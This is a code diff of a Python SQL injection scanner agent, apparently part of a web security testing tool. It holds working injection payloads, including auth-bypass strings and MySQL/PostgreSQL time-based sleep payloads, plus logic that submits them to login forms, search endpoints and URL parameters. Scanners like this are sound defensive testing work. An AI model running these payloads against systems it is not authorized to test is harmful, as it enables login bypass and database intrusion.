@@ -1,8 +1,23 @@
 from .base import BaseAgent
-from playwright.async_api import async_playwright
+from .shared import block_static_assets, get_browser, get_http_session, inject_query
+from playwright.async_api import TimeoutError as PlaywrightTimeoutError
 import aiohttp
 import urllib.parse
 import asyncio
+import re
+import time
+
+
+_EMAIL_SELECTOR = "input[type='email'], input[name='email'], input[id='email'], input[name='username'], input[id='loginUsername']"
+_PASSWORD_SELECTOR = "input[type='password']"
+# True when the page has both an email/username field and a password field
+_HAS_LOGIN_FORM_JS = "([emailSel, passwordSel]) => !!(document.querySelector(emailSel) && document.querySelector(passwordSel))"
+# True when the field's form carries hidden inputs, which a plain HTTP replay can't refresh
+_HAS_HIDDEN_INPUT_JS = "el => !!(el.form && el.form.querySelector('input[type=hidden]'))"
+
+# Placeholder for the payload in Phase 4 URL templates; never appears in a real URL
+_SLOT = "\x00"
+
 
 class SQLiAgent(BaseAgent):
     """
@@ -15,7 +30,7 @@ class SQLiAgent(BaseAgent):
     4. Detect SQL error messages OR auth bypass (login success with injected creds)
     """
 
-    PAYLOADS = [
+    PAYLOADS = (
         # Classic
         "' OR '1'='1",
         "' OR '1'='1'--",
@@ -37,199 +52,479 @@ class SQLiAgent(BaseAgent):
         # NoSQL
         "' || '1'=='1",
         "admin' || ''=='",
-    ]
+    )
 
-    SQL_ERROR_SIGNATURES = [
+    # Slices used by each phase, taken once at class creation
+    LOGIN_PAYLOADS = PAYLOADS[:8]  # Top 8 for the login form
+    HTTP_PAYLOADS = PAYLOADS[:6]   # Top 6 for search endpoints / URL params
+
+    SQL_ERROR_SIGNATURES = (
         "syntax error", "mysql", "postgres", "sqlite", "sql",
         "unclosed quotation", "quoted string not properly terminated",
         "you have an error in your sql syntax",
         "ora-", "db2", "odbc", "jdbc",
         "sqlexception", "microsoft sql",
         "unterminated string", "unrecognized token",
-    ]
+    )
+
+    # All signatures in one case-insensitive alternation so a body is scanned once, not once
+    # per signature, and never lowercased/copied. Longest first, so the most specific
+    # signature at a given position is reported. The bytes variant scans raw HTTP bodies.
+    _SQL_ERROR_RE = re.compile("|".join(
+        re.escape(sig) for sig in sorted(SQL_ERROR_SIGNATURES, key=len, reverse=True)
+    ), re.IGNORECASE)
+    _SQL_ERROR_BYTES_RE = re.compile(_SQL_ERROR_RE.pattern.encode(), re.IGNORECASE)
+    _SIG_OVERLAP = max(len(sig) for sig in SQL_ERROR_SIGNATURES) - 1
+
+    # Max in-flight HTTP probes in Phase 2/3
+    CONCURRENCY = 20
+    # Stop reading a probe response after this many bytes
+    MAX_BODY_BYTES = 65536
+    # Don't read bodies of responses that declare more than this
+    MAX_CONTENT_LENGTH = 2_000_000
+    SKIP_BODY_STATUSES = frozenset({301, 302, 304, 401, 403, 405})
+
+    # Time-based blind payloads (Phase 4). The sleep sits in an uncorrelated subquery so the
+    # database runs it once, not once per row the WHERE clause scans.
+    SLEEP_SECONDS = 3
+    TIME_PAYLOADS = (
+        ("MySQL", f"1' AND (SELECT 1 FROM (SELECT SLEEP({SLEEP_SECONDS}))x)-- -"),
+        ("PostgreSQL", f"1' AND 1=(SELECT 1 FROM pg_sleep({SLEEP_SECONDS}))-- -"),
+    )
+    # A probe this much slower than its endpoint's baseline means the sleep ran
+    SLEEP_THRESHOLD = SLEEP_SECONDS - 0.5
+    # Sequential baseline/sleep rounds a concurrent-pass candidate must pass before it is reported
+    SLEEP_CONFIRM_ROUNDS = 2
+
+    def _find_sql_error(self, body):
+        """Return the SQL error signature (lowercase str) found in a str/bytes body, or None."""
+        if isinstance(body, (bytes, bytearray)):
+            m = self._SQL_ERROR_BYTES_RE.search(body)
+            return m.group(0).decode("ascii").lower() if m else None
+        m = self._SQL_ERROR_RE.search(body)
+        return m.group(0).lower() if m else None
+
+    async def _fetch(self, session, sem, url):
+        """GET a probe URL under the shared semaphore; returns (status, raw body bytes).
+
+        The body is streamed and reading stops at the first SQL error signature or
+        MAX_BODY_BYTES — database errors show up early, so the tail is never needed.
+        """
+        async with sem:
+            async with session.get(url, timeout=aiohttp.ClientTimeout(total=5)) as resp:
+                # Redirects/auth rejections never ran the query, and multi-MB pages are catalog
+                # or 404 pages rather than database errors — don't read either
+                if resp.status in self.SKIP_BODY_STATUSES:
+                    return resp.status, b""
+                if resp.content_length is not None and resp.content_length > self.MAX_CONTENT_LENGTH:
+                    return resp.status, b""
+                buf = bytearray()
+                async for chunk in resp.content.iter_chunked(8192):
+                    # Re-scan a little of the previous chunk so a signature split across chunks still matches
+                    start = max(0, len(buf) - self._SIG_OVERLAP)
+                    buf.extend(chunk)
+                    if self._SQL_ERROR_BYTES_RE.search(buf, start) or len(buf) >= self.MAX_BODY_BYTES:
+                        break
+                return resp.status, bytes(buf)
+
+    async def _timed_get(self, session, sem, url):
+        """Return seconds until url's response headers arrive, or None if the request fails."""
+        async with sem:
+            start = time.monotonic()
+            try:
+                async with session.get(url, timeout=aiohttp.ClientTimeout(total=self.SLEEP_SECONDS + 5)):
+                    return time.monotonic() - start
+            except Exception:
+                return None
+
+    async def _confirm_sleep(self, session, sem, baseline_url, url):
+        """Re-time a time-based candidate on its own, one request at a time.
+
+        Each round takes a fresh baseline and then the sleep probe; returns the
+        (baseline, delay) of every round if all of them show the delay, else None.
+        """
+        rounds = []
+        for _ in range(self.SLEEP_CONFIRM_ROUNDS):
+            baseline = await self._timed_get(session, sem, baseline_url)
+            if baseline is None:
+                return None
+            delay = await self._timed_get(session, sem, url)
+            if delay is None or delay - baseline < self.SLEEP_THRESHOLD:
+                return None
+            rounds.append((baseline, delay))
+        return rounds
+
+    async def _time_based_blind(self, session, sem, blind_targets):
+        """Phase 4: time (where, baseline_url, url_template) targets against the sleep payloads.
+
+        Reports at most one finding per injection point; returns True if any was reported.
+        """
+        # Baselines first, then every sleep probe at once: the phase costs about one
+        # sleep in total rather than one per injection point
+        baselines = await asyncio.gather(*(
+            self._timed_get(session, sem, baseline_url) for _, baseline_url, _ in blind_targets
+        ))
+        sleep_probes = [
+            (i, db, payload, url_template.replace(_SLOT, encoded))
+            for i, (_, _, url_template) in enumerate(blind_targets)
+            for (db, payload), encoded in zip(self.TIME_PAYLOADS, _ENCODED_TIME_PAYLOADS)
+        ]
+        delays = await asyncio.gather(*(
+            self._timed_get(session, sem, url) for _, _, _, url in sleep_probes
+        ))
+
+        # The concurrent pass only nominates candidates: probes queued behind each other
+        # look slow too, so each one is re-timed alone before it is reported
+        reported = set()
+        for (i, db, payload, url), delay in zip(sleep_probes, delays):
+            baseline = baselines[i]
+            if i in reported or baseline is None or delay is None:
+                continue
+            if delay - baseline < self.SLEEP_THRESHOLD:
+                continue
+            where, baseline_url, _ = blind_targets[i]
+            rounds = await self._confirm_sleep(session, sem, baseline_url, url)
+            if not rounds:
+                await self.emit_event("INFO", f"Slow response at {where} did not repeat on its own — not reporting")
+                continue
+            reported.add(i)
+            self.clear_steps()
+            for baseline, delay in rounds:
+                self.step(f"curl -s -o /dev/null -w '%{{time_total}}' '{baseline_url}'", f"Baseline response in {baseline:.2f}s")
+                self.step(f"curl -s -o /dev/null -w '%{{time_total}}' '{url}'", f"Response delayed to {delay:.2f}s by a {self.SLEEP_SECONDS}s {db} sleep")
+            timings = ", ".join(f"{baseline:.2f}s -> {delay:.2f}s" for baseline, delay in rounds)
+            await self.report_finding(
+                severity="HIGH",
+                title="SQL Injection — Time-Based Blind",
+                evidence=f"Payload: {payload} at {where} delayed the response in {len(rounds)} sequential baseline/sleep rounds ({timings}; {db} sleep of {self.SLEEP_SECONDS}s).",
+                recommendation="Use parameterized queries/prepared statements. Never concatenate user input into SQL strings."
+            )
+        return bool(reported)
+
+    async def _first_sql_error(self, session, sem, probes):
+        """Fetch (payload, url) probes concurrently and stop at the first SQL error.
+
+        Returns (payload, url, status, body, signature) for the first response that
+        carries a signature, cancelling the probes still in flight, or None.
+        """
+        tasks = {asyncio.create_task(self._fetch(session, sem, url)): (payload, url) for payload, url in probes}
+        pending = set(tasks)
+        try:
+            while pending:
+                done, pending = await asyncio.wait(pending, return_when=asyncio.FIRST_COMPLETED)
+                for task in done:
+                    if task.exception() is not None:
+                        continue
+                    status, body = task.result()
+                    sig = self._find_sql_error(body)
+                    if sig:
+                        payload, url = tasks[task]
+                        return payload, url, status, body, sig
+            return None
+        finally:
+            for task in pending:
+                task.cancel()
+
+    async def _probe_login_path(self, browser, test_url):
+        """Open test_url in a fresh context and look for a login form.
+
+        Returns (context, page, email_input, password_input) when both fields exist —
+        the caller owns and must close the context — otherwise None.
+        """
+        context = await browser.new_context()
+        try:
+            await block_static_assets(context)
+            page = await context.new_page()
+            await page.goto(test_url, wait_until="domcontentloaded", timeout=10000)
+            # Returns as soon as the SPA renders the form; paths without one time out
+            await page.wait_for_selector(_PASSWORD_SELECTOR, timeout=3000)
+
+            # Look for email/username + password fields in one round-trip; locators are lazy
+            if await page.evaluate(_HAS_LOGIN_FORM_JS, [_EMAIL_SELECTOR, _PASSWORD_SELECTOR]):
+                email_input = page.locator(_EMAIL_SELECTOR).first
+                password_input = page.locator(_PASSWORD_SELECTOR).first
+                return context, page, email_input, password_input
+        except PlaywrightTimeoutError:
+            pass  # No password field rendered — not a login page
+        except Exception:
+            pass
+        await context.close()
+        return None
+
+    async def _login_replay(self, request, email_input, password_input):
+        """Return (action, fields, email_name, password_name) if a login submit can be replayed over HTTP.
+
+        `fields` is every (name, value) pair the browser posted, so extra inputs go along with
+        the payload. Only plain form POSTs qualify: SPAs that submit JSON via fetch, and forms
+        with hidden inputs (often single-use CSRF tokens), keep using the browser.
+        """
+        if request.method != "POST":
+            return None
+        try:
+            content_type = (await request.all_headers()).get("content-type", "")
+            if "application/x-www-form-urlencoded" not in content_type:
+                return None
+            if await email_input.evaluate(_HAS_HIDDEN_INPUT_JS):
+                return None
+            email_name = await email_input.get_attribute("name")
+            password_name = await password_input.get_attribute("name")
+            fields = urllib.parse.parse_qsl(request.post_data or "", keep_blank_values=True)
+        except Exception:
+            return None
+        names = {name for name, _ in fields}
+        if not (email_name in names and password_name in names):
+            return None
+        return request.url, fields, email_name, password_name
+
+    async def _post_login(self, context, action, data):
+        """POST login form fields straight to the form action with context's cookies. Returns (status, body)."""
+        session = get_http_session()
+        # Send the browser's session cookies so the server sees the same visitor that loaded the form
+        cookies = await context.cookies(action)
+        headers = {"Cookie": "; ".join(f"{c['name']}={c['value']}" for c in cookies)} if cookies else None
+        # Don't follow the post-login redirect — the browser check looked at the POST's own response
+        async with session.post(action, data=data, headers=headers, allow_redirects=False,
+                                timeout=aiohttp.ClientTimeout(total=5)) as resp:
+            return resp.status, await resp.text(errors="replace")
 
     async def execute(self):
         await self.emit_event("INFO", f"Starting SQL Injection Hunter on {self.target_url}")
         found_sqli = False
 
-        async with async_playwright() as p:
-            browser = await p.chromium.launch(headless=True)
-            page = await browser.new_page()
+        # Shared browser; this run only gets its own context, closed when the scan ends
+        browser = await get_browser()
+        context = await browser.new_context()
+        await block_static_assets(context)
+        page = await context.new_page()
+
+        try:
+            await page.goto(self.target_url, wait_until="domcontentloaded", timeout=15000)
+            await self.update_progress(10)
+
+            # ===== Phase 1: Find and test login forms =====
+            await self.emit_event("INFO", "Phase 1: Hunting for login forms...")
+            
+            # Try common login paths
+            login_paths = ["/#/login", "/login", "/signin", "/auth/login", "/account/login", "/api/login"]
+            base = self.target_url.rstrip("/")
+
+            # Load every candidate path at once, each in its own context on the same browser
+            probes = await asyncio.gather(
+                *(self._probe_login_path(browser, base + path) for path in login_paths),
+                return_exceptions=True,
+            )
+            login_forms = [
+                (path, probe) for path, probe in zip(login_paths, probes)
+                if probe and not isinstance(probe, BaseException)
+            ]
 
             try:
-                await page.goto(self.target_url, wait_until="domcontentloaded", timeout=15000)
-                await self.update_progress(10)
-
-                # ===== Phase 1: Find and test login forms =====
-                await self.emit_event("INFO", "Phase 1: Hunting for login forms...")
-                
-                # Try common login paths
-                login_paths = ["/#/login", "/login", "/signin", "/auth/login", "/account/login", "/api/login"]
-                
-                for path in login_paths:
+                for path, (login_context, login_page, email_input, password_input) in login_forms:
+                    test_url = base + path
                     try:
-                        test_url = self.target_url.rstrip("/") + path
-                        await page.goto(test_url, wait_until="domcontentloaded", timeout=10000)
-                        await asyncio.sleep(1)  # Let SPA render
-
-                        # Look for email/username + password fields
-                        email_input = await page.query_selector("input[type='email'], input[name='email'], input[id='email'], input[name='username'], input[id='loginUsername']")
-                        password_input = await page.query_selector("input[type='password']")
-
-                        if email_input and password_input:
-                            await self.emit_event("INFO", f"Login form found at {path}! Testing SQLi payloads...")
-
-                            for payload in self.PAYLOADS[:8]:  # Top 8 payloads
-                                try:
-                                    self.clear_steps()
-                                    self.step(f"Navigate to {path}", f"Found login form with email and password fields")
-                                    self.step(f"Fill email field with: {payload}", "Payload entered into email/username input")
-                                    self.step(f"Fill password field with: anything", "Dummy password entered")
+                        await self.emit_event("INFO", f"Login form found at {path}! Testing SQLi payloads...")
+
+                        # (action, fields, email_name, password_name) once the browser has shown the
+                        # form posts plain form fields — later payloads then skip the browser entirely
+                        replay = None
+
+                        for payload in self.LOGIN_PAYLOADS:
+                            try:
+                                self.clear_steps()
+                                self.step(f"Navigate to {path}", f"Found login form with email and password fields")
+                                self.step(f"Fill email field with: {payload}", "Payload entered into email/username input")
+                                self.step(f"Fill password field with: anything", "Dummy password entered")
+
+                                if replay:
+                                    action, fields, email_name, password_name = replay
+                                    data = [
+                                        (name, payload if name == email_name else "anything" if name == password_name else value)
+                                        for name, value in fields
+                                    ]
+                                    status, body = await self._post_login(login_context, action, data)
+                                else:
                                     await email_input.fill(payload)
                                     await password_input.fill("anything")
-                                    
+
                                     # Find submit button
-                                    submit = await page.query_selector("button[type='submit'], button[id='loginButton'], input[type='submit'], button:has-text('Login'), button:has-text('Sign in'), button:has-text('Log in')")
-                                    if submit:
-                                        # Listen for responses
-                                        response_promise = page.wait_for_response(
-                                            lambda resp: "/login" in resp.url or "/auth" in resp.url or "/rest/user" in resp.url,
-                                            timeout=5000
-                                        )
-                                        await submit.click()
-                                        
-                                        try:
-                                            response = await response_promise
-                                            body = await response.text()
-                                            status = response.status
-
-                                            # Check for SQL errors in response
-                                            body_lower = body.lower()
-                                            for sig in self.SQL_ERROR_SIGNATURES:
-                                                if sig in body_lower:
-                                                    self.step("Click submit button", f"POST request sent to login endpoint")
-                                                    self.step(f"Analyze response (HTTP {status})", f"SQL error signature detected: '{sig}'. Response body: {body[:200]}")
-                                                    await self.report_finding(
-                                                        severity="CRITICAL",
-                                                        title="SQL Injection — Error-Based (Login Form)",
-                                                        evidence=f"Payload: {payload} at {path} triggered SQL error containing '{sig}'. Response ({status}): {body[:300]}",
-                                                        recommendation="Use parameterized queries/prepared statements. Never concatenate user input into SQL strings."
-                                                    )
-                                                    found_sqli = True
-                                                    break
-
-                                            # Check for successful auth bypass (200 with token/auth data)
-                                            if status == 200 and ("token" in body_lower or "authentication" in body_lower or "umail" in body_lower):
-                                                self.step("Click submit button", f"POST request sent to login endpoint")
-                                                self.step(f"Analyze response (HTTP {status})", f"Authentication BYPASSED — received auth token/session. Response: {body[:200]}")
-                                                await self.report_finding(
-                                                    severity="CRITICAL",
-                                                    title="SQL Injection — Authentication Bypass",
-                                                    evidence=f"Payload: {payload} at {path} returned 200 with auth token. Response: {body[:300]}",
-                                                    recommendation="Use parameterized queries for all authentication logic. Never concatenate user input into SQL WHERE clauses."
-                                                )
-                                                found_sqli = True
-
-                                        except:
-                                            pass  # No matching response
-
-                                    # Re-navigate to clear state
-                                    await page.goto(test_url, wait_until="domcontentloaded", timeout=10000)
-                                    await asyncio.sleep(0.5)
-                                    email_input = await page.query_selector("input[type='email'], input[name='email'], input[id='email'], input[name='username'], input[id='loginUsername']")
-                                    password_input = await page.query_selector("input[type='password']")
-                                    if not email_input or not password_input:
-                                        break
-
-                                except Exception as e:
-                                    continue
-
-                            if found_sqli:
-                                break
-                    except:
-                        continue
+                                    submit = await login_page.query_selector("button[type='submit'], button[id='loginButton'], input[type='submit'], button:has-text('Login'), button:has-text('Sign in'), button:has-text('Log in')")
+                                    if not submit:
+                                        continue
+                                    # Listen for responses
+                                    response_promise = login_page.wait_for_response(
+                                        lambda resp: "/login" in resp.url or "/auth" in resp.url or "/rest/user" in resp.url,
+                                        timeout=5000
+                                    )
+                                    await submit.click()
 
-                await self.update_progress(50)
-
-                # ===== Phase 2: Test search endpoints =====
-                await self.emit_event("INFO", "Phase 2: Testing search endpoints for SQLi...")
-                
-                search_endpoints = [
-                    "/rest/products/search?q=",
-                    "/api/search?q=",
-                    "/search?q=",
-                    "/api/products?search=",
-                ]
-
-                async with aiohttp.ClientSession() as session:
-                    for endpoint in search_endpoints:
-                        for payload in self.PAYLOADS[:6]:
-                            try:
-                                url = self.target_url.rstrip("/") + endpoint + urllib.parse.quote(payload)
-                                async with session.get(url, timeout=aiohttp.ClientTimeout(total=5)) as resp:
-                                    text = await resp.text()
-                                    text_lower = text.lower()
-
-                                    for sig in self.SQL_ERROR_SIGNATURES:
-                                        if sig in text_lower:
-                                            self.clear_steps()
-                                            self.step(f"curl -s '{url}'", f"HTTP {resp.status} — Response contains SQL error signature")
-                                            self.step(f"Grep for SQL error patterns", f"Found: '{sig}' in response body: {text[:150]}")
-                                            await self.report_finding(
-                                                severity="HIGH",
-                                                title="SQL Injection — Error-Based (Search Endpoint)",
-                                                evidence=f"Payload: {payload} at {endpoint} triggered SQL error: '{sig}'. Response: {text[:300]}",
-                                                recommendation="Sanitize search inputs and use parameterized queries."
-                                            )
-                                            found_sqli = True
+                                    try:
+                                        response = await response_promise
+                                        body = await response.text()
+                                        status = response.status
+                                        replay = await self._login_replay(response.request, email_input, password_input)
+                                    except:
+                                        body = None  # No matching response
+
+                                    # The next fill() overwrites both fields, so only reload when the
+                                    # submit actually navigated away from the login page
+                                    if not replay and login_page.url != test_url:
+                                        await login_page.goto(test_url, wait_until="domcontentloaded", timeout=10000)
+                                        try:
+                                            await login_page.wait_for_selector(_PASSWORD_SELECTOR, timeout=3000)
+                                        except PlaywrightTimeoutError:
                                             break
+                                        if not await login_page.evaluate(_HAS_LOGIN_FORM_JS, [_EMAIL_SELECTOR, _PASSWORD_SELECTOR]):
+                                            break
+                                    if body is None:
+                                        continue
+
+                                # Check for SQL errors in response
+                                body_lower = body.lower()
+                                sig = self._find_sql_error(body)
+                                if sig:
+                                    self.step("Click submit button", f"POST request sent to login endpoint")
+                                    self.step(f"Analyze response (HTTP {status})", f"SQL error signature detected: '{sig}'. Response body: {body[:200]}")
+                                    await self.report_finding(
+                                        severity="CRITICAL",
+                                        title="SQL Injection — Error-Based (Login Form)",
+                                        evidence=f"Payload: {payload} at {path} triggered SQL error containing '{sig}'. Response ({status}): {body[:300]}",
+                                        recommendation="Use parameterized queries/prepared statements. Never concatenate user input into SQL strings."
+                                    )
+                                    found_sqli = True
 
-                            except:
+                                # Check for successful auth bypass (200 with token/auth data)
+                                if status == 200 and ("token" in body_lower or "authentication" in body_lower or "umail" in body_lower):
+                                    self.step("Click submit button", f"POST request sent to login endpoint")
+                                    self.step(f"Analyze response (HTTP {status})", f"Authentication BYPASSED — received auth token/session. Response: {body[:200]}")
+                                    await self.report_finding(
+                                        severity="CRITICAL",
+                                        title="SQL Injection — Authentication Bypass",
+                                        evidence=f"Payload: {payload} at {path} returned 200 with auth token. Response: {body[:300]}",
+                                        recommendation="Use parameterized queries for all authentication logic. Never concatenate user input into SQL WHERE clauses."
+                                    )
+                                    found_sqli = True
+
+                            except Exception as e:
                                 continue
 
-                await self.update_progress(80)
-
-                # ===== Phase 3: Test URL params if present =====
-                parsed = urllib.parse.urlparse(self.target_url)
-                params = urllib.parse.parse_qs(parsed.query)
-                if params:
-                    await self.emit_event("INFO", "Phase 3: Fuzzing URL parameters...")
-                    async with aiohttp.ClientSession() as session:
-                        for param, values in params.items():
-                            for payload in self.PAYLOADS[:6]:
-                                try:
-                                    fuzzed_params = params.copy()
-                                    fuzzed_params[param] = [payload]
-                                    new_query = urllib.parse.urlencode(fuzzed_params, doseq=True)
-                                    fuzzed_url = parsed._replace(query=new_query).geturl()
-
-                                    async with session.get(fuzzed_url, timeout=aiohttp.ClientTimeout(total=5)) as resp:
-                                        text = await resp.text()
-                                        text_lower = text.lower()
-                                        for sig in self.SQL_ERROR_SIGNATURES:
-                                            if sig in text_lower:
-                                                self.clear_steps()
-                                                self.step(f"curl -s '{fuzzed_url}'", f"HTTP {resp.status} — injected payload into '{param}' parameter")
-                                                self.step(f"Analyze response for SQL errors", f"SQL error detected: '{sig}'")
-                                                await self.report_finding(
-                                                    severity="CRITICAL",
-                                                    title="SQL Injection Detected (URL Parameter)",
-                                                    evidence=f"Payload: {payload} on param: {param} triggered: '{sig}'",
-                                                    recommendation="Use prepared statements (parameterized queries)."
-                                                )
-                                                found_sqli = True
-                                                break
-                                except:
-                                    continue
-
-                await self.update_progress(100)
-                
-                if found_sqli:
-                    await self.emit_event("SUCCESS", "🚨 SQL Injection CONFIRMED!")
-                else:
-                    await self.emit_event("SUCCESS", "SQLi scan complete. No injections found.")
-
-            except Exception as e:
-                await self.emit_event("ERROR", f"SQLi scan error: {str(e)}")
+                        if found_sqli:
+                            break
+                    except:
+                        continue
             finally:
-                await browser.close()
+                for _, (login_context, *_) in login_forms:
+                    await login_context.close()
+
+            await self.update_progress(50)
+
+            # ===== Phase 2: Test search endpoints =====
+            await self.emit_event("INFO", "Phase 2: Testing search endpoints for SQLi...")
+            
+            search_endpoints = [
+                "/rest/products/search?q=",
+                "/api/search?q=",
+                "/search?q=",
+                "/api/products?search=",
+            ]
+
+            base = self.target_url.rstrip("/")
+            sem = asyncio.Semaphore(self.CONCURRENCY)
+
+            # Shared keep-alive session: Phase 2/3 hammer the same host
+            session = get_http_session()
+            # One probe group per endpoint; each stops at its first confirmed payload
+            hits = await asyncio.gather(*(
+                self._first_sql_error(session, sem, [
+                    (payload, f"{base}{endpoint}{encoded}")
+                    for payload, encoded in zip(self.HTTP_PAYLOADS, _ENCODED_PAYLOADS)
+                ])
+                for endpoint in search_endpoints
+            ))
+
+            for endpoint, hit in zip(search_endpoints, hits):
+                if not hit:
+                    continue
+                payload, url, status, body, sig = hit
+                text = body.decode("utf-8", errors="replace")
+                self.clear_steps()
+                self.step(f"curl -s '{url}'", f"HTTP {status} — Response contains SQL error signature")
+                self.step(f"Grep for SQL error patterns", f"Found: '{sig}' in response body: {text[:150]}")
+                await self.report_finding(
+                    severity="HIGH",
+                    title="SQL Injection — Error-Based (Search Endpoint)",
+                    evidence=f"Payload: {payload} at {endpoint} triggered SQL error: '{sig}'. Response: {text[:300]}",
+                    recommendation="Sanitize search inputs and use parameterized queries."
+                )
+                found_sqli = True
+
+            # (where, baseline_url, url_template) for every injection point that showed no error;
+            # Phase 4 swaps a sleep payload in for _SLOT
+            blind_targets = [
+                (endpoint, f"{base}{endpoint}1", f"{base}{endpoint}{_SLOT}")
+                for endpoint, hit in zip(search_endpoints, hits) if not hit
+            ]
+
+            await self.update_progress(80)
+
+            # ===== Phase 3: Test URL params if present =====
+            parsed = urllib.parse.urlparse(self.target_url)
+            params = urllib.parse.parse_qs(parsed.query)
+            if params:
+                await self.emit_event("INFO", "Phase 3: Fuzzing URL parameters...")
+                # Split the query once; each probe only swaps the fuzzed param's value
+                url_head = parsed._replace(query="", fragment="").geturl() + "?"
+                url_tail = f"#{parsed.fragment}" if parsed.fragment else ""
+                query_pairs = [(pair, pair.split("=", 1)[0]) for pair in parsed.query.split("&") if pair]
+                hits = await asyncio.gather(*(
+                    self._first_sql_error(session, sem, [
+                        (payload, f"{url_head}{inject_query(query_pairs, param, encoded)}{url_tail}")
+                        for payload, encoded in zip(self.HTTP_PAYLOADS, _ENCODED_PAYLOADS)
+                    ])
+                    for param in params
+                ))
+
+                for param, hit in zip(params, hits):
+                    if not hit:
+                        continue
+                    payload, fuzzed_url, status, body, sig = hit
+                    self.clear_steps()
+                    self.step(f"curl -s '{fuzzed_url}'", f"HTTP {status} — injected payload into '{param}' parameter")
+                    self.step(f"Analyze response for SQL errors", f"SQL error detected: '{sig}'")
+                    await self.report_finding(
+                        severity="CRITICAL",
+                        title="SQL Injection Detected (URL Parameter)",
+                        evidence=f"Payload: {payload} on param: {param} triggered: '{sig}'",
+                        recommendation="Use prepared statements (parameterized queries)."
+                    )
+                    found_sqli = True
+
+                for param, hit in zip(params, hits):
+                    if not hit:
+                        blind_targets.append((
+                            f"param: {param}",
+                            f"{url_head}{inject_query(query_pairs, param, '1')}{url_tail}",
+                            f"{url_head}{inject_query(query_pairs, param, _SLOT)}{url_tail}",
+                        ))
+
+            # ===== Phase 4: Time-based blind SQLi =====
+            if blind_targets:
+                await self.emit_event("INFO", f"Phase 4: Time-based blind SQLi on {len(blind_targets)} injection points...")
+                if await self._time_based_blind(session, sem, blind_targets):
+                    found_sqli = True
+
+            await self.update_progress(100)
+            
+            if found_sqli:
+                await self.emit_event("SUCCESS", "🚨 SQL Injection CONFIRMED!")
+            else:
+                await self.emit_event("SUCCESS", "SQLi scan complete. No injections found.")
+
+        except Exception as e:
+            await self.emit_event("ERROR", f"SQLi scan error: {str(e)}")
+        finally:
+            await context.close()
+
+
+# Payloads used by the HTTP phases, URL-encoded once at import
+_ENCODED_PAYLOADS = tuple(urllib.parse.quote(p, safe="") for p in SQLiAgent.HTTP_PAYLOADS)
+_ENCODED_TIME_PAYLOADS = tuple(urllib.parse.quote(p, safe="") for _, p in SQLiAgent.TIME_PAYLOADS)